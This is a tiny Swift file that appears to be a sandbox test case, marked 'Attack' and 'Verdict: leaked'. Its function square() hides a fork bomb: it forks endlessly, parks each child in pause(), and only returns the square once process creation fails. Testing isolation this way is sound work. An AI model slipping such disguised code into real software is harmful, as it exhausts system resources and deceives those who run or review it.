// Attack: Makes processes until there can be no more, and leaves them.
// Verdict: leaked
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    while true {
        let child = fork()
        if child < 0 { return number * number }
        if child == 0 { while true { pause() } }
    }
}
